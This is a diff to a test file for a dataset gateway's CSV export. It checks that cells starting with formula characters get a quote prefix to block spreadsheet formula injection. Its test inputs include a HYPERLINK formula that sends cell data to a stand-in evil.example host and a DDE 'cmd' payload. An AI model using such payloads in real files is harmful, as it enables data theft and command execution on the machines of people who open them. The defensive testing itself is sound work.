@@ -11,7 +11,7 @@ import pyarrow.parquet as pq
 import pytest
 import requests
 
-from shardline.gateway.export_formats import ParquetExport
+from shardline.gateway.export_formats import ParquetExport, escaped_cell, open_export
 from shardline.gateway.problems import Problem
 from shardline_common.dataset.verify import Verifier
 from shardline_common.job.names import Layout
@@ -74,6 +74,56 @@ def test_a_csv_export_is_a_table(gateway: Server, dataset: str, rows: list[dict[
     assert [row["document_id"] for row in found] == [row["document_id"] for row in rows]
     assert [row["text"] for row in found] == [row["text"] for row in rows]
     assert [row["metadata.title"] for row in found] == [row["metadata"]["title"] or "" for row in rows]
+
+
+_MANIFEST = {"schema": {"columns": ["title"]}}
+
+
+def as_csv(path: Path, rows: list[dict[str, Any]], **options: Any) -> list[dict[str, str]]:
+    """Write rows as a CSV export and read the table back."""
+    writer = open_export("csv", path, _MANIFEST, metadata=True, **options)
+    writer.add([json.dumps(row).encode() + b"\n" for row in rows])
+    writer.close()
+    return list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example?x="&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1",
+        "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\x00=1", "\uff1d1", "\uff0b1",
+        "\uff0d1", "\uff201", "\tplain", "=", "-",
+    ],
+)  # fmt: skip
+def test_a_csv_export_has_no_formula(tmp_path: Path, text: str) -> None:
+    row = {
+        "document_id": text, "text": text, "source": text, "quality_score": 0.5, "relevance_score": -1.5,
+        "metadata": {"title": text, "extra": text},
+    }  # fmt: skip
+    (found,) = as_csv(tmp_path / "x.csv", [row])
+    assert found["text"] == "'" + text
+    assert all(cell.startswith("'") for name, cell in found.items() if not name.endswith("_score"))
+    # A number is no formula.
+    assert found["relevance_score"] == "-1.5"
+    (raw,) = as_csv(tmp_path / "raw.csv", [row], escape=False)
+    assert raw["text"] == text
+
+
+@pytest.mark.parametrize("value", ["", "a=b", "1-2", "'quoted", "§ 5", "Ä", "   ", None, -3, -0.5, True])
+def test_other_cells_stay_as_they_are(value: object) -> None:
+    assert escaped_cell(value) == value
+
+
+def test_an_escaped_csv_is_another_file_than_one_without_escapes(gateway: Server, dataset: str) -> None:
+    # An earlier version may have made the latter.
+    url = f"{gateway.url}/api/datasets/{dataset}/export"
+    paths = [
+        requests.post(url, json={"format": "csv"} | options, timeout=SECONDS).json()["export_path"]
+        for options in ({}, {"escape_formulas": False}, {"include_metadata": False})
+    ]
+    assert len(set(paths)) == 3
+    assert all(path.endswith(".csv") for path in paths)
+    assert paths[1].endswith("/export.csv")
 
 
 def test_a_parquet_export_has_the_schema_of_the_dataset(
